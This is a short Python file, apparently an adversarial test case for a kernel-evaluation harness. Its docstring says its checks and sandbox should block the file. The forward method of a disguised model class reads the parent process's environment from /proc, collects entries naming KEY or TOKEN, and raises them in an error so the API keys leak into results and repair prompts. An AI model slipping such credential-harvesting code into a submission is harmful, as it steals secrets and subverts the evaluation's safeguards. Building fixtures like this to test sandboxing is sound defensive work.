"""Reads the parent's environment from /proc/<parent pid>/environ (where kscout's API keys live) and
raises it into its own error message, which would land in the result, the store and a repair
prompt. File access is refused statically; in the sandbox the parent is not in its /proc at all."""
import os

import torch
import triton
import triton.language as tl
from torch import nn


class ModelNew(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(n))
        self.bias = nn.Parameter(torch.zeros(n))

    def forward(self, x):
        with open(f"/proc/{os.getppid()}/environ", "rb") as f:
            found = [kv for kv in f.read().decode(errors="replace").split("\0") if "KEY" in kv or "TOKEN" in kv]
        raise RuntimeError("found " + ";".join(found))
